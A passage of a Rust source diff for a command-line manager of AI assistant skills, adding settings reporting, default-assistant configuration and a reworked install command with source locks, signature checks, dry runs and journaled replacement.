@@ -1,308 +1,6432 @@
 use crate::assistant::Assistant;
+use crate::audit::{self, AuditAction, AuditEvent};
+use crate::backup::{self, BackupSource};
+use crate::batch::{keep_chosen, BatchSummary, Outcome};
+use crate::bom::SkillBom;
+use crate::cache::{CacheLimits, CacheMeta, DownloadCache};
 use crate::cli::{
-    AddCommand, AssistantArgs, ListCommand, MarkUsedCommand, RemoveCommand, SearchCommand,
-    ShowCommand, StatsCommand,
+    AddCommand, AssistantArgs, BackupAction, BackupCommand, BackupRestoreCommand, BomCommand,
+    CacheAction, CacheCommand, CleanDownloadsCommand, Cli, CompareCommand, ConvertCommand,
+    DefaultCommand, DiffCommand, DoctorCommand, EnvCommand, ExplainCommand, ExportCommand,
+    ExportSiteCommand, GroupBy, IndexCommand, JournalAction, JournalCommand, KeysAction,
+    KeysCommand, KeysTrustCommand, KeysUntrustCommand, Layout, ListCommand, MarkUsedCommand,
+    MigrateLayoutCommand, NewCommand, OutdatedCommand, PackCommand, ProtectCommand, PruneCommand,
+    PublishCommand, RankCommand, RemoveCommand, ReportCommand, RulesAction, RulesCommand,
+    SearchCommand, ShadowsCommand, ShowCommand, SnapshotAction, StatsCommand, SyncCommand,
+    TrashAction, TrashCommand, UpdateCommand, UpgradeCommand, VerifyCommand, VerifyPackCommand,
+    WorkspaceAction, WorkspaceCommand, WorkspaceSyncCommand,
+};
+use crate::config::{self, Config, ConfirmDetails, DefaultAssistant, RootScope, SkillRoot};
+use crate::downloads;
+use crate::hosts::{self, GitHost, HostedRepo};
+use crate::journal::{Journal, JournalStep};
+use crate::keys::{self, KeyStore};
+use crate::manifest::{self, FileChanges, InstallManifest, InstallRecord};
+use crate::output;
+use crate::paths::{ensure_dir, same_filesystem, AppPaths};
+use crate::process::{describe_timeout, output_with_timeout, status_with_timeout};
+use crate::progress::{self, DownloadProgress};
+use crate::rank;
+use crate::registry::{self, PublishCheck};
+use crate::reload::{self, ReloadEvent};
+use crate::roots::{target_root, writable_root};
+use crate::shared::{self, SharedStore};
+use crate::snapshot::{self, Inventory};
+use crate::trash::Trash;
+use crate::usage::{UsageEvent, UsageStore};
+use crate::{
+    catalog, doctor, gc, http, pack, parallel, rule_pack, rules, scan, site, store, template,
+    tools, validation,
 };
-use crate::config::Config;
-use crate::paths::{ensure_dir, AppPaths};
-use crate::usage::UsageStore;
-use crate::{scan, validation};
 use anyhow::{anyhow, Context, Result};
 use bytesize::ByteSize;
+use chrono::{DateTime, Datelike, NaiveDate, SecondsFormat, Utc};
+use clap::CommandFactory;
 use flate2::read::GzDecoder;
+use similar::{ChangeTag, TextDiff};
+use std::collections::{BTreeMap, BTreeSet};
 use std::fs;
 use std::fs::File;
-use std::io::{self, Read, Write};
+use std::io::{self, IsTerminal, Read, Write};
 use std::path::{Path, PathBuf};
-use std::process::Command;
-use tar::Archive;
+use std::process::{Command, Stdio};
+use std::time::Duration;
+use tar::{Archive, EntryType};
 use tempfile::TempDir;
 use walkdir::WalkDir;
+use zip::result::ZipError;
 use zip::ZipArchive;
 
-pub fn cmd_add(cmd: &AddCommand, config: &Config, paths: &AppPaths) -> Result<()> {
-    let assistant = resolve_single_assistant(&cmd.assistant, config, "add")?;
-    let (source_dir, temp_dir) = prepare_source(&cmd.source)?;
-    let skill_dir = match cmd.skill.as_deref() {
-        Some(skill) => resolve_skill_path(&source_dir, skill)?,
-        None => source_dir,
-    };
+pub fn cmd_default(cmd: &DefaultCommand, config: &mut Config, paths: &AppPaths) -> Result<()> {
+    if let Some(command) = &cmd.command {
+        let takes_assistant = Cli::command().find_subcommand(command).is_some_and(|sub| {
+            sub.get_arguments()
+                .any(|arg| arg.get_long() == Some("codex"))
+        });
+        if !takes_assistant {
+            return Err(anyhow!("`skill {command}` does not take an assistant"));
+        }
+    }
 
-    let validation_report = validation::validate_skill_dir(&skill_dir)?;
-    if !validation_report.issues.is_empty() {
-        for issue in &validation_report.issues {
-            println!("{issue}");
+    match (cmd.command.as_deref(), cmd.assistant) {
+        (None, None) if cmd.unset => {
+            config.default_assistant = None;
+            println!("Default assistant cleared");
+        }
+        (None, None) => {
+            match config.default_assistant {
+                Some(assistant) => println!("Default assistant: {assistant}"),
+                None => println!("Default assistant: (none)"),
+            }
+            for (command, choice) in &config.command_assistants {
+                println!("{command}: {choice}");
+            }
+            return Ok(());
+        }
+        (None, Some(DefaultAssistant::One(assistant))) => {
+            config.default_assistant = Some(assistant);
+            println!("Default assistant set to {assistant}");
+        }
+        (None, Some(DefaultAssistant::All)) => {
+            return Err(anyhow!(
+                "`all` needs --command; without a default, commands that read several assistants already use all of them"
+            ));
+        }
+        (Some(command), None) if cmd.unset => {
+            if config.command_assistants.remove(command).is_none() {
+                println!("No default assistant set for {command}");
+                return Ok(());
+            }
+            println!("Default assistant for {command} cleared");
+        }
+        (Some(command), None) => {
+            match config.command_assistants.get(command) {
+                Some(choice) => println!("{command}: {choice}"),
+                None => match config.default_assistant {
+                    Some(assistant) => println!("{command}: {assistant} (default_assistant)"),
+                    None => println!("{command}: (none)"),
+                },
+            }
+            return Ok(());
+        }
+        (Some(command), Some(choice)) => {
+            if choice == DefaultAssistant::All && SINGLE_ASSISTANT_COMMANDS.contains(&command) {
+                return Err(anyhow!(
+                    "`skill {command}` works on one assistant; `all` cannot be its default"
+                ));
+            }
+            config
+                .command_assistants
+                .insert(command.to_string(), choice);
+            println!("Default assistant for {command} set to {choice}");
         }
     }
-    if validation_report.has_errors() {
-        return Err(anyhow!("validation failed"));
+    config.save(paths)
+}
+
+/// One effective setting for `skill env`, with where its value came from.
+#[derive(Debug, serde::Serialize)]
+struct Setting {
+    key: String,
+    value: String,
+    source: String,
+}
+
+/// `skill env`: the settings this run resolves to after config and environment
+/// variables, so it is clear why `skill` reads or installs where it does.
+pub fn cmd_env(cmd: &EnvCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let mut assistants = cmd.assistant.selected_all();
+    if assistants.is_empty() {
+        assistants = vec![Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode];
+    }
+    let settings = effective_settings(config, paths, &assistants);
+    if output::json() {
+        return output::print_json(&settings);
+    }
+    let width = settings
+        .iter()
+        .map(|setting| setting.key.len())
+        .max()
+        .unwrap_or_default();
+    for setting in &settings {
+        println!(
+            "{:<width$}  {}  ({})",
+            setting.key, setting.value, setting.source
+        );
+    }
+    Ok(())
+}
+
+fn effective_settings(config: &Config, paths: &AppPaths, assistants: &[Assistant]) -> Vec<Setting> {
+    let mut settings = Vec::new();
+    let mut set = |key: &str, value: String, source: &str| {
+        settings.push(Setting {
+            key: key.to_string(),
+            value,
+            source: source.to_string(),
+        });
+    };
+    let configured = |is_set: bool| if is_set { "config" } else { "default" };
+    let optional = |value: Option<&str>, unset: &str| value.unwrap_or(unset).to_string();
+    let env_set = |name: &str| std::env::var_os(name).is_some_and(|value| !value.is_empty());
+
+    let config_source = if paths.config_file.is_file() {
+        "loaded"
+    } else {
+        "missing, defaults in use"
+    };
+    set(
+        "config_file",
+        paths.config_file.display().to_string(),
+        config_source,
+    );
+    set("data_dir", paths.data_dir.display().to_string(), "default");
+    set(
+        "metadata_store",
+        store::store_path(paths).display().to_string(),
+        "default",
+    );
+    set(
+        "cache_dir",
+        paths.cache_dir.display().to_string(),
+        "default",
+    );
+    set(
+        "default_assistant",
+        optional(config.default_assistant.map(Assistant::as_str), "none"),
+        configured(config.default_assistant.is_some()),
+    );
+    let base_dir_source = configured(config.skills_base_dir.is_some());
+    set(
+        "skills_base_dir",
+        config
+            .skills_base_dir
+            .as_ref()
+            .unwrap_or(&paths.skills_base_dir)
+            .display()
+            .to_string(),
+        base_dir_source,
+    );
+    for &assistant in assistants {
+        let root_source = if config.skills_roots.get(assistant).is_some() {
+            format!("config skills_roots.{assistant}")
+        } else if assistant.env_skills_dir().is_some() {
+            format!("env {}", assistant.home_env())
+        } else if config.skills_base_dir.is_some() {
+            "config skills_base_dir".to_string()
+        } else {
+            "default".to_string()
+        };
+        set(
+            &format!("skills_root.{assistant}"),
+            config
+                .skills_root_for(paths, assistant)
+                .display()
+                .to_string(),
+            &root_source,
+        );
+        let native_source = if assistant.env_skills_dir().is_some() {
+            format!("env {}", assistant.home_env())
+        } else {
+            "default".to_string()
+        };
+        set(
+            &format!("native_root.{assistant}"),
+            optional(
+                assistant
+                    .native_skills_dir()
+                    .map(|dir| dir.display().to_string())
+                    .as_deref(),
+                "unknown",
+            ),
+            &native_source,
+        );
+        set(
+            &format!("system_root.{assistant}"),
+            config.system_root_for(assistant).display().to_string(),
+            configured(config.system_skills_dir.is_some()),
+        );
+    }
+
+    let jobs_source = if config.jobs.is_some() {
+        "config"
+    } else {
+        "default, one per CPU"
+    };
+    set("jobs", parallel::jobs().to_string(), jobs_source);
+    for (key, value) in [
+        ("cache_max_size", &config.cache_max_size),
+        ("cache_max_age", &config.cache_max_age),
+        ("download_rate_limit", &config.download_rate_limit),
+        ("trash_max_size", &config.trash_max_size),
+        ("trash_max_age", &config.trash_max_age),
+    ] {
+        set(
+            key,
+            optional(value.as_deref(), "unlimited"),
+            configured(value.is_some()),
+        );
+    }
+    set(
+        "backup_dir",
+        backup_target(None, config, paths).display().to_string(),
+        configured(config.backup_dir.is_some()),
+    );
+    set(
+        "link_installs",
+        config.link_installs.to_string(),
+        configured(config.link_installs),
+    );
+    set(
+        "shared_dir",
+        SharedStore::new(paths).dir().display().to_string(),
+        "default",
+    );
+    set(
+        "workspace",
+        config
+            .workspace
+            .as_ref()
+            .map_or_else(|| "none".to_string(), |dir| dir.display().to_string()),
+        configured(config.workspace.is_some()),
+    );
+
+    set(
+        "require_signed_commits",
+        config.require_signed_commits.to_string(),
+        configured(config.require_signed_commits),
+    );
+    set(
+        "require_signatures",
+        config.require_signatures.to_string(),
+        configured(config.require_signatures),
+    );
+    let key_store = KeyStore::new(paths).allowed_signers();
+    let (signers, signers_source) = match (&config.allowed_signers_file, &key_store) {
+        (Some(file), _) => (file.display().to_string(), "config"),
+        (None, Some(file)) => (file.display().to_string(), "skill keys trust"),
+        (None, None) => ("none".to_string(), "default"),
+    };
+    set("allowed_signers", signers, signers_source);
+    set(
+        "gitlab_host",
+        optional(config.gitlab_host.as_deref(), hosts::DEFAULT_GITLAB_HOST),
+        configured(config.gitlab_host.is_some()),
+    );
+    for host in [GitHost::GitHub, GitHost::GitLab, GitHost::Bitbucket] {
+        let env = host.token_env();
+        let value = if env_set(env) { "set" } else { "not set" };
+        set(
+            &env.to_ascii_lowercase(),
+            value.to_string(),
+            &format!("env {env}"),
+        );
+    }
+
+    let pack = rule_pack::active();
+    set(
+        "rule_pack",
+        pack.pack.version.clone(),
+        &pack.source.to_string(),
+    );
+    set(
+        "rules_url",
+        optional(config.rules_url.as_deref(), rule_pack::DEFAULT_PACK_URL),
+        configured(config.rules_url.is_some()),
+    );
+    let (external, external_source) = if std::env::var_os("SKILL_SKIP_EXTERNAL_SCANS").is_some() {
+        ("disabled", "env SKILL_SKIP_EXTERNAL_SCANS")
+    } else {
+        ("enabled", "default")
+    };
+    set("external_scans", external.to_string(), external_source);
+    match std::env::var("SKILL_YARA_RULES") {
+        Ok(rules) => set("yara_rules", rules, "env SKILL_YARA_RULES"),
+        Err(_) => set("yara_rules", "none".to_string(), "default"),
+    }
+    let timeouts = &config.timeouts;
+    for (tool, value) in [
+        ("git", &timeouts.git),
+        ("trivy", &timeouts.trivy),
+        ("clamscan", &timeouts.clamscan),
+        ("yara", &timeouts.yara),
+        ("reload", &timeouts.reload),
+    ] {
+        set(
+            &format!("timeouts.{tool}"),
+            optional(value.as_deref(), "none"),
+            configured(value.is_some()),
+        );
+    }
+    set(
+        "defaults",
+        if config.defaults.is_empty() {
+            "none".to_string()
+        } else {
+            config
+                .defaults
+                .keys()
+                .cloned()
+                .collect::<Vec<_>>()
+                .join(", ")
+        },
+        configured(!config.defaults.is_empty()),
+    );
+    settings
+}
+
+pub fn cmd_add(cmd: &AddCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let mut options = source_options(
+        config,
+        paths,
+        cmd.require_signed_commits,
+        cmd.allowed_signers.clone(),
+    )?;
+    options.archive_password = cmd.archive_password.clone();
+    options.reference = cmd.reference.clone();
+    options.expected_sha256 = cmd.sha256.as_deref().map(parse_sha256).transpose()?;
+    options.require_signatures |= cmd.verify;
+    if cmd.list {
+        return list_archive_source(&cmd.source, &options);
     }
+    let assistant = resolve_single_assistant(&cmd.assistant, config, "add")?;
+    let PreparedSource {
+        dir: source_dir,
+        temp_dir,
+        archive_digest,
+        resolved_url,
+    } = prepare_source(&cmd.source, &options)?;
+    let origin = AddOrigin {
+        assistant,
+        system: cmd.system,
+        identity: source_identity(&cmd.source, &options.gitlab_host),
+        source: match fs::canonicalize(&cmd.source) {
+            Ok(path) => path.display().to_string(),
+            Err(_) => cmd.source.clone(),
+        },
+        reference: cmd.reference.clone(),
+        commit: git_head(&source_dir),
+        archive_digest,
+        resolved_url,
+        web_repo: hosts::web_repo(&cmd.source, cmd.reference.as_deref(), &options.gitlab_host),
+        replace: cmd.force,
+        source_dir: source_dir.clone(),
+        downloaded: temp_dir.is_some(),
+        link: (cmd.link || config.link_installs) && !cmd.system,
+    };
+    if cmd.all || cmd.skill.len() > 1 {
+        return add_many(cmd, config, paths, &options, &origin, &source_dir);
+    }
+    let skill = cmd.skill.first().map(String::as_str);
+    let skill_dir = select_skill_dir(&source_dir, skill)?;
 
+    let warnings = check_skill(
+        &skill_dir,
+        skill.unwrap_or_default(),
+        assistant,
+        config,
+        paths,
+        origin.downloaded,
+    )?;
     let frontmatter = validation::read_frontmatter(&skill_dir)?;
-    let scan_report = scan::scan_path(&skill_dir)?;
-    if !scan_report.issues.is_empty() {
-        for issue in &scan_report.issues {
-            println!("{issue}");
+
+    let dest_root = if cmd.dry_run {
+        target_root(config, paths, assistant, cmd.system)
+    } else {
+        writable_root(config, paths, assistant, cmd.system)?
+    };
+    let dest_dir = dest_root.join(&frontmatter.name);
+    if dest_dir.exists() {
+        warn_downgrade(&frontmatter.name, &dest_dir, &skill_dir);
+        if !cmd.force {
+            return Err(anyhow!(
+                "skill already exists at {}; pass --force to replace it",
+                dest_dir.display()
+            ));
         }
     }
-    if !scan_report.external.is_empty() {
-        for external in &scan_report.external {
-            println!("[{}] {}", external.tool, external.output);
+    if !cmd.system {
+        let manifest = InstallManifest::load(paths)?;
+        if dest_dir.exists() {
+            ensure_replaceable(&manifest, assistant, &frontmatter.name)?;
         }
+        check_source_lock(
+            &manifest,
+            &origin,
+            &frontmatter.name,
+            cmd.retarget,
+            &options,
+        )?;
     }
-    if scan_report.has_errors() {
-        if temp_dir.is_some() {
-            eprintln!("Downloaded files were removed after scan failure.");
+    if cmd.dry_run {
+        let preview = AddPreview::new(
+            &origin,
+            &frontmatter.name,
+            &skill_dir,
+            &dest_dir,
+            warnings.len(),
+        )?;
+        if output::json() {
+            return output::print_json(&preview);
         }
-        return Err(anyhow!("security scan failed"));
+        let action = if dest_dir.exists() {
+            "replace"
+        } else {
+            "install"
+        };
+        println!(
+            "Would {action} {} into {}: {}",
+            preview.name,
+            dest_dir.display(),
+            preview.detail()
+        );
+        return Ok(());
     }
 
     eprintln!(
         "Warning: Skill usage is at your own risk. Verify and trust the source before installing."
     );
 
-    if !cmd.yes && !confirm("Proceed with installation?")? {
-        return Err(anyhow!("installation cancelled"));
+    if !cmd.yes {
+        print_action_summary(
+            &ActionSummary {
+                action: if dest_dir.exists() {
+                    "Replace"
+                } else {
+                    "Install"
+                },
+                name: &format!("{} into {}", frontmatter.name, dest_dir.display()),
+                dir: &skill_dir,
+                warnings: &warnings,
+            },
+            config.confirm_details,
+        )?;
+        if !confirm("Proceed with installation?")? {
+            return Err(anyhow!("installation cancelled"));
+        }
     }
 
-    let dest_root = config.skills_root_for(paths, assistant);
-    ensure_dir(&dest_root)?;
-    let dest_dir = dest_root.join(&frontmatter.name);
-    if dest_dir.exists() {
-        return Err(anyhow!("skill already exists at {}", dest_dir.display()));
+    let summary = install_skill(
+        config,
+        paths,
+        &origin,
+        &skill_dir,
+        &dest_dir,
+        skill.map(str::to_string),
+        warnings.len(),
+    )?;
+    reload::notify(
+        config,
+        assistant,
+        ReloadEvent::Install,
+        std::slice::from_ref(&summary.name),
+    );
+    print_add_summary(&summary)
+}
+
+/// Where the skills `add` installs came from, shared by every skill taken from one source.
+struct AddOrigin {
+    assistant: Assistant,
+    system: bool,
+    source: String,
+    /// `source` reduced by [`source_identity`], for comparing against source locks.
+    identity: String,
+    reference: Option<String>,
+    commit: Option<String>,
+    archive_digest: Option<String>,
+    resolved_url: Option<String>,
+    /// Browsable upstream repository, for hosted git sources.
+    web_repo: Option<hosts::WebRepo>,
+    /// Replace a skill that is already installed (`add --force`).
+    replace: bool,
+    /// Where the fetched source was unpacked; skill paths are taken relative to it.
+    source_dir: PathBuf,
+    downloaded: bool,
+    /// Install into the [`SharedStore`] and link it into the assistant's root.
+    link: bool,
+}
+
+/// Copies a checked skill into `dest_dir` and records where it came from. `skill` is
+/// the path inside the source that `update` selects again.
+fn install_skill(
+    config: &Config,
+    paths: &AppPaths,
+    origin: &AddOrigin,
+    skill_dir: &Path,
+    dest_dir: &Path,
+    skill: Option<String>,
+    warnings: usize,
+) -> Result<AddSummary> {
+    let assistant = origin.assistant;
+    let name = dest_dir
+        .file_name()
+        .map(|name| name.to_string_lossy().into_owned())
+        .unwrap_or_default();
+    let replacing = origin.replace && fs::symlink_metadata(dest_dir).is_ok();
+    if replacing {
+        replace_installed(config, paths, origin, skill_dir, dest_dir, &name)?;
+    } else if origin.link {
+        let target = SharedStore::new(paths).store(&name, |staged| {
+            copy_dir_filtered(skill_dir, staged)?;
+            apply_assistant_overrides(staged, assistant)
+        })?;
+        link_dir(&target, dest_dir)?;
+    } else {
+        Journal::begin(
+            paths,
+            "add",
+            vec![JournalStep::CopyDir {
+                from: skill_dir.to_path_buf(),
+                to: dest_dir.to_path_buf(),
+            }],
+        )?
+        .run()?;
+        apply_assistant_overrides(dest_dir, assistant)?;
     }
 
-    copy_dir_filtered(&skill_dir, &dest_dir)?;
-    println!("Installed {} for {}", frontmatter.name, assistant);
+    let action = if replacing {
+        AuditAction::Update
+    } else {
+        AuditAction::Install
+    };
+    audit::record(
+        paths,
+        AuditEvent::new(action, Some(assistant), &name).with_bytes(skill_size(dest_dir)?),
+    );
+    let files = manifest::hash_dir(dest_dir)?;
+    let provenance = origin
+        .archive_digest
+        .clone()
+        .unwrap_or_else(|| manifest::tree_digest(&files));
+    let summary = AddSummary {
+        name: name.clone(),
+        assistant,
+        scope: if origin.system { "system" } else { "user" },
+        path: dest_dir.to_path_buf(),
+        files: files.len(),
+        size: skill_size(dest_dir)?,
+        warnings,
+        source: origin.source.clone(),
+        commit: origin.commit.clone(),
+        resolved_url: origin.resolved_url.clone(),
+        provenance: provenance.clone(),
+    };
+    progress::emit(
+        "install_finished",
+        serde_json::json!({
+            "assistant": assistant,
+            "skill": name,
+            "path": dest_dir,
+            "provenance": provenance,
+        }),
+    );
+    let record = InstallRecord {
+        source: origin.source.clone(),
+        skill,
+        reference: origin.reference.clone(),
+        commit: origin.commit.clone(),
+        installed_at: Utc::now(),
+        updated_at: None,
+        source_digest: Some(provenance),
+        resolved_url: origin.resolved_url.clone(),
+        web_url: origin.web_repo.as_ref().map(|repo| {
+            repo.tree_url(
+                origin.commit.as_deref(),
+                &relative_skill_path(&origin.source_dir, skill_dir),
+            )
+        }),
+        version: validation::read_frontmatter(dest_dir)
+            .ok()
+            .and_then(|frontmatter| frontmatter.version()),
+        files,
+    };
+    InstallManifest::update(paths, |manifest| {
+        if origin.system {
+            manifest.insert_system(assistant, &name, record);
+        } else {
+            manifest.insert(assistant, &name, record);
+            manifest.lock_source(assistant, &name, &origin.source);
+        }
+    })?;
+    Ok(summary)
+}
+
+/// `add --force`: stages the new copy next to the installed one, then swaps them
+/// through the journal so a failure at any point leaves the old copy in place.
+fn replace_installed(
+    config: &Config,
+    paths: &AppPaths,
+    origin: &AddOrigin,
+    skill_dir: &Path,
+    dest_dir: &Path,
+    name: &str,
+) -> Result<()> {
+    let dest_root = dest_dir
+        .parent()
+        .ok_or_else(|| anyhow!("invalid skill path {}", dest_dir.display()))?;
+    let staging_dir = dest_root.join(format!(".{name}.add"));
+    let backup_dir = dest_root.join(format!(".{name}.previous"));
+    for stale in [&staging_dir, &backup_dir] {
+        if fs::symlink_metadata(stale).is_ok() {
+            fs::remove_dir_all(stale)
+                .with_context(|| format!("failed to remove {}", stale.display()))?;
+        }
+    }
+    let fill = |staged: &Path| -> Result<()> {
+        copy_dir_filtered(skill_dir, staged)?;
+        apply_assistant_overrides(staged, origin.assistant)
+    };
+    let staged = if origin.link {
+        SharedStore::new(paths)
+            .store(name, fill)
+            .and_then(|target| link_dir(&target, &staging_dir))
+    } else {
+        fill(&staging_dir)
+    };
+    if let Err(err) = staged {
+        let _ = fs::remove_dir_all(&staging_dir);
+        return Err(err);
+    }
+
+    let previous_target = shared::linked_target(dest_dir);
+    Journal::begin(
+        paths,
+        "add",
+        vec![
+            JournalStep::MoveDir {
+                from: dest_dir.to_path_buf(),
+                to: backup_dir.clone(),
+            },
+            JournalStep::MoveDir {
+                from: staging_dir.clone(),
+                to: dest_dir.to_path_buf(),
+            },
+            JournalStep::RemoveDir { path: backup_dir },
+        ],
+    )
+    .and_then(|journal| journal.run())
+    .inspect_err(|_| {
+        let _ = fs::remove_dir_all(&staging_dir);
+    })?;
+    if let Some(target) = previous_target {
+        release_shared(config, paths, name, &target)?;
+    }
     Ok(())
 }
 
-pub fn cmd_remove(cmd: &RemoveCommand, config: &Config, paths: &AppPaths) -> Result<()> {
-    let assistant = resolve_single_assistant(&cmd.assistant, config, "remove")?;
-    let dest_root = config.skills_root_for(paths, assistant);
-    let dest_dir = dest_root.join(&cmd.name);
-    if !dest_dir.exists() {
-        return Err(anyhow!("skill not found at {}", dest_dir.display()));
+/// Refuses to install `name` from a source other than the one it is locked to, unless
+/// `retarget`, so a look-alike repository cannot quietly take over a skill name.
+fn check_source_lock(
+    manifest: &InstallManifest,
+    origin: &AddOrigin,
+    name: &str,
+    retarget: bool,
+    options: &SourceOptions,
+) -> Result<()> {
+    let Some(locked) = manifest.source_lock(origin.assistant, name) else {
+        return Ok(());
+    };
+    if retarget || source_identity(locked, &options.gitlab_host) == origin.identity {
+        return Ok(());
     }
+    Err(anyhow!(
+        "{name} is locked to its original source {locked}; pass --retarget to install it from {} instead",
+        origin.source
+    ))
+}
 
-    if !cmd.yes && !confirm("Remove this skill?")? {
-        return Err(anyhow!("remove cancelled"));
+/// What a source refers to regardless of spelling: host shorthand becomes its
+/// repository URL, refs, a trailing `/` and `.git` are dropped, and URLs are compared
+/// case-insensitively. Local paths are kept as they are.
+fn source_identity(source: &str, gitlab_host: &str) -> String {
+    if let Ok(Some(repo)) = hosts::parse_shorthand(source, gitlab_host) {
+        return repo
+            .clone_url()
+            .trim_end_matches(".git")
+            .to_ascii_lowercase();
+    }
+    if Path::new(source).exists() {
+        return fs::canonicalize(source)
+            .map(|path| path.display().to_string())
+            .unwrap_or_else(|_| source.to_string());
     }
+    if looks_like_http_url(source) || looks_like_git_source(source) {
+        return source
+            .trim_end_matches('/')
+            .trim_end_matches(".git")
+            .to_ascii_lowercase();
+    }
+    source.to_string()
+}
 
-    fs::remove_dir_all(&dest_dir)
-        .with_context(|| format!("failed to remove skill directory {}", dest_dir.display()))?;
-    println!("Removed {} for {}", cmd.name, assistant);
-    Ok(())
+/// A skill from a multi-skill source that passed its checks and awaits the prompt.
+struct AddCandidate {
+    skill_dir: PathBuf,
+    dest_dir: PathBuf,
+    warnings: usize,
 }
 
-pub fn cmd_list(cmd: &ListCommand, config: &Config, paths: &AppPaths) -> Result<()> {
-    let assistants = resolve_list_assistants(&cmd.assistant, config);
+/// `add --all` and repeated `--skill`: checks every selected skill, asks once for the
+/// ones that passed, installs them, and reports each skill's result. A skill that fails
+/// its checks does not stop the others.
+fn add_many(
+    cmd: &AddCommand,
+    config: &Config,
+    paths: &AppPaths,
+    options: &SourceOptions,
+    origin: &AddOrigin,
+    source_dir: &Path,
+) -> Result<()> {
+    let assistant = origin.assistant;
+    let selected: Vec<(String, Result<PathBuf>)> = if cmd.all {
+        let found = find_skill_dirs(source_dir)?;
+        if found.is_empty() {
+            return Err(anyhow!("no SKILL.md found in {}", origin.source));
+        }
+        found
+            .into_iter()
+            .map(|dir| {
+                let skill = dir
+                    .strip_prefix(source_dir)
+                    .map(|rel| rel.to_string_lossy().replace('\\', "/"))
+                    .unwrap_or_default();
+                (skill, Ok(dir))
+            })
+            .collect()
+    } else {
+        cmd.skill
+            .iter()
+            .map(|skill| (skill.clone(), resolve_skill_path(source_dir, skill)))
+            .collect()
+    };
 
-    for assistant in &assistants {
-        let root = config.skills_root_for(paths, *assistant);
-        let mut names = Vec::new();
+    let dest_root = if cmd.dry_run {
+        target_root(config, paths, assistant, cmd.system)
+    } else {
+        writable_root(config, paths, assistant, cmd.system)?
+    };
+    let manifest = InstallManifest::load(paths)?;
+    let mut checked: Vec<(String, Result<AddCandidate>)> = Vec::new();
+    for (skill, skill_dir) in selected {
+        let candidate = skill_dir.and_then(|skill_dir| {
+            let warnings = check_skill(
+                &skill_dir,
+                &skill,
+                assistant,
+                config,
+                paths,
+                origin.downloaded,
+            )?;
+            let frontmatter = validation::read_frontmatter(&skill_dir)?;
+            let dest_dir = dest_root.join(&frontmatter.name);
+            if dest_dir.exists() {
+                warn_downgrade(&frontmatter.name, &dest_dir, &skill_dir);
+                if !cmd.force {
+                    return Err(anyhow!(
+                        "skill already exists at {}; pass --force to replace it",
+                        dest_dir.display()
+                    ));
+                }
+                if !cmd.system {
+                    ensure_replaceable(&manifest, assistant, &frontmatter.name)?;
+                }
+            }
+            if !cmd.system {
+                check_source_lock(&manifest, origin, &frontmatter.name, cmd.retarget, options)?;
+            }
+            if let Some((other, _)) = checked.iter().find(|(_, candidate)| {
+                candidate
+                    .as_ref()
+                    .is_ok_and(|candidate| candidate.dest_dir == dest_dir)
+            }) {
+                return Err(anyhow!("{other} is also named {}", frontmatter.name));
+            }
+            Ok(AddCandidate {
+                skill_dir,
+                dest_dir,
+                warnings: warnings.len(),
+            })
+        });
+        checked.push((skill, candidate));
+    }
 
-        if root.exists() {
-            for entry in
-                fs::read_dir(&root).with_context(|| format!("failed to read {}", root.display()))?
-            {
-                let entry = entry?;
-                if entry.file_type()?.is_dir() {
-                    let skill_dir = entry.path();
-                    if skill_dir.join("SKILL.md").exists() {
-                        if let Some(name) = skill_dir.file_name().and_then(|n| n.to_str()) {
-                            names.push(name.to_string());
-                        }
-                    }
+    let ready: Vec<usize> = checked
+        .iter()
+        .enumerate()
+        .filter(|(_, (_, candidate))| candidate.is_ok())
+        .map(|(index, _)| index)
+        .collect();
+    if cmd.dry_run {
+        let mut summary = BatchSummary::default();
+        let mut previews = Vec::new();
+        for (skill, candidate) in &checked {
+            match candidate {
+                Ok(candidate) => {
+                    let name = candidate
+                        .dest_dir
+                        .file_name()
+                        .map(|name| name.to_string_lossy().into_owned())
+                        .unwrap_or_default();
+                    let preview = AddPreview::new(
+                        origin,
+                        &name,
+                        &candidate.skill_dir,
+                        &candidate.dest_dir,
+                        candidate.warnings,
+                    )?;
+                    let detail = format!(
+                        "would install into {} ({})",
+                        candidate.dest_dir.display(),
+                        preview.detail()
+                    );
+                    summary.push(assistant, skill, Outcome::Ok, detail);
+                    previews.push(preview);
                 }
+                Err(err) => summary.push(assistant, skill, Outcome::Failed, format!("{err:#}")),
             }
         }
-
-        names.sort();
-        if assistants.len() > 1 {
-            println!("{assistant}:");
+        if output::json() {
+            output::print_json(&previews)?;
+        } else {
+            summary.print();
         }
+        return summary.result("install");
+    }
+    let mut chosen = ready.clone();
+    if !ready.is_empty() {
+        eprintln!(
+            "Warning: Skill usage is at your own risk. Verify and trust the source before installing."
+        );
+    }
+    if !ready.is_empty() && !cmd.yes {
+        let rows: Vec<String> = ready
+            .iter()
+            .filter_map(|&index| match &checked[index] {
+                (skill, Ok(candidate)) => Some(format!(
+                    "{skill} into {} ({} warning(s))",
+                    candidate.dest_dir.display(),
+                    candidate.warnings
+                )),
+                _ => None,
+            })
+            .collect();
+        let Some(confirmed) = confirm_batch("Install these skills?", &rows)? else {
+            return Err(anyhow!("installation cancelled"));
+        };
+        chosen = confirmed.into_iter().map(|row| ready[row]).collect();
+    }
 
-        if names.is_empty() {
-            println!("(no skills found)");
-        } else {
-            for name in names {
-                println!("{name}");
+    let mut summary = BatchSummary::default();
+    let mut installed: Vec<AddSummary> = Vec::new();
+    for (index, (skill, candidate)) in checked.into_iter().enumerate() {
+        let candidate = match candidate {
+            Ok(candidate) => candidate,
+            Err(err) => {
+                summary.push(assistant, &skill, Outcome::Failed, format!("{err:#}"));
+                continue;
             }
+        };
+        if !chosen.contains(&index) {
+            summary.push(assistant, &skill, Outcome::Skipped, "deselected");
+            continue;
         }
-
-        if assistants.len() > 1 {
-            println!();
+        match install_skill(
+            config,
+            paths,
+            origin,
+            &candidate.skill_dir,
+            &candidate.dest_dir,
+            Some(skill.clone()),
+            candidate.warnings,
+        ) {
+            Ok(added) => {
+                let detail = format!("installed {} ({} files)", added.name, added.files);
+                summary.push(assistant, &skill, Outcome::Ok, detail);
+                installed.push(added);
+            }
+            Err(err) => summary.push(assistant, &skill, Outcome::Failed, format!("{err:#}")),
         }
     }
 
-    Ok(())
+    let changed: Vec<(Assistant, String)> = installed
+        .iter()
+        .map(|added| (assistant, added.name.clone()))
+        .collect();
+    notify_changed(config, ReloadEvent::Install, &changed);
+    if output::json() {
+        output::print_json(&installed)?;
+    } else {
+        summary.print();
+    }
